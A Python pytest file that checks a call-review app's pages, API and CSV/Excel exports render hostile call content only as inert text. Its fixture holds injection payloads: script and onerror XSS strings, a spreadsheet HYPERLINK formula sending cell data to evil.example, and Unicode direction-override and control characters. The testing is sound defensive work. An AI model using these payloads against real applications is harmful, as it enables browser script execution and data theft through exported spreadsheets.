"""A call that somebody made to do harm: on every page, in the API, in CSV and Excel it is only text."""

from __future__ import annotations

import csv
import json
import re
import time
from dataclasses import replace
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from desk_door import Door
from made_calls import CALLS, made_call
from made_ledger import keep
from openpyxl import load_workbook

from scoring.call import Role, Turn, Word
from scoring.rubric_file import load_rubric
from store import tokens
from store.cells import is_formula_like
from store.exports import write_outputs
from store.tokens import Scope

TRICKS = {
    "markup": "</script><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>\"'--></style>{{7}}",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"退款")',
    "direction": "转账\u202e001\u2066\u2069\u200f给我\ufeff",
    "controls": "a\0b\x1b[31mc\x85d\u2028e",
    "surrogates": "半\ud83d个\udc00字",
}
UNSEEN = re.compile("[\ud800-\udfff\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff\x00-\x08\x0b-\x1f\x7f-\x9f]")
ACTIVE = re.compile(r"""<script(?! src="/static/)|<style(?! nonce)|<(img|svg/|iframe)""")
LONG = 800_000  # characters of one turn, more than a megabyte in UTF-8


@pytest.fixture
def call(door: Door) -> str:
    """Tricks wherever a call has text, and a turn of a megabyte with words to match."""
    made, said = made_call(CALLS[2], 60), "".join(TRICKS.values())
    text = (said + "客户说了很久。") * (LONG // len(said))
    end = made.duration + 60
    words = tuple(Word(made.duration, end, text[at : at + 5000], 0.4) for at in range(0, len(text), 5000))
    tricked = [
        replace(turn, text=turn.text + trick, words=())
        for turn, trick in zip(made.turns, cycle(TRICKS.values()), strict=False)
    ]
    known = replace(
        made.metadata, agent=TRICKS["formula"], agent_name=TRICKS["markup"], team=TRICKS["direction"],
        ticket_id=TRICKS["surrogates"],
    )  # fmt: skip
    long = Turn(Role.CUSTOMER, made.duration, end, text, 0.9, words)
    hostile = replace(made, id="X" + said, turns=(*tricked, long), duration=end, metadata=known)
    run = door.desk.ledger.begin_run("h", {}, {})
    sha256 = keep(door.desk, run, hostile, load_rubric("service"), door.folder)
    door.desk.catch_up()
    return sha256


def test_a_hostile_call_is_only_text(door: Door, call: str, tmp_path: Path) -> None:
    begun = time.process_time()
    pages_show_only_text(door, call)
    the_api_shows_only_text(door, call)
    spreadsheets_hold_only_text(door, call, tmp_path)
    assert time.process_time() - begun < 20, "a long turn must not keep the desk busy"


def pages_show_only_text(door: Door, call: str) -> None:
    person, found = door.enter("boss"), {}
    with door.desk.writing() as session:
        tokens.issue(session, "boss", TRICKS["markup"][:40], Scope.REVIEW, by=TRICKS["controls"])
    for path in (
        f"/calls/{call}", "/calls", f"/calls?words={TRICKS['formula'][:9]}", "/account", "/agreement", "/tasks",
        f"/calibrations/new?call={call}", "/library/suggestions", f"/library/add?call={call}", "/coaching/new",
        "/compliance", f"/packs/{call}", "/sampling/plans/new", "/dashboards", "/dashboards/people", "/dashboards/mix",
    ):  # fmt: skip
        page = person.get(path)
        assert page.status_code == 200, path
        assert not UNSEEN.search(page.text), path
        assert not ACTIVE.search(page.text), path
        assert not handlers(page.text), path
        found[path] = page.text
    assert "&lt;script&gt;alert(1)" in found[f"/calls/{call}"]


def handlers(page: str) -> list[str]:
    """Attributes of a page that a browser would run."""
    found: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend(f"{tag} {name}" for name, _ in attrs if name.startswith("on"))

    Reader().feed(page)
    return found


def the_api_shows_only_text(door: Door, call: str) -> None:
    person = door.enter("boss")
    path = f"/api/v1/calls/{call}/review"
    greeting = {"item": "greeting", "human": "met", "reason": TRICKS["direction"]}
    for comment in TRICKS.values():
        headers = {"X-CSRF-Token": person.csrf, "If-Match": person.get(path).headers["etag"]}
        sent = json.dumps({"state": "draft", "comment": comment, "decisions": [greeting]})
        wrote = person.client.put(path, content=sent, headers=headers | {"Content-Type": "application/json"})
        assert wrote.status_code == (422 if comment == TRICKS["surrogates"] else 200), comment
    for path in (f"/calls/{call}", f"/calls/{call}/transcript", f"/calls/{call}/answers", f"/calls/{call}/review",
                 "/calls?limit=200", "/search?words=说了很久", "/audit", "/me", "/cases?limit=200",
                 "/dashboards/overview", "/dashboards/items", "/dashboards/people", "/dashboards/mix"):  # fmt: skip
        answer = person.get(f"/api/v1{path}")
        assert answer.status_code == 200, path
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"
        for text in texts(answer.json()):
            assert not UNSEEN.search(text), path
        if path.endswith("/transcript"):
            assert max(len(turn["text"].encode()) for turn in answer.json()["turns"]) > 900_000


def spreadsheets_hold_only_text(door: Door, call: str, folder: Path) -> None:
    write_outputs(door.desk.ledger.records([f"e{call[:16]}"]), [], folder, [load_rubric("service")])
    with (folder / "evaluations.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert "'" + TRICKS["formula"] in cells
    assert not [cell for cell in cells if is_formula_like(cell)]
    values = [cell for sheet in load_workbook(folder / "evaluations.xlsx") for row in sheet for cell in row]
    assert "f" not in {cell.data_type for cell in values}, "no cell is a formula"
    assert TRICKS["formula"] in {cell.value for cell in values}
    assert not [cell for cell in values if re.search("[\ud800-\udfff\x00-\x08]", str(cell.value))]


def texts(value: Any) -> list[str]:
    """Every text in JSON, keys too."""
    if isinstance(value, dict):
        return [*value, *(text for one in value.values() for text in texts(one))]
    if isinstance(value, list):
        return [text for one in value for text in texts(one)]
    return [value] if isinstance(value, str) else []
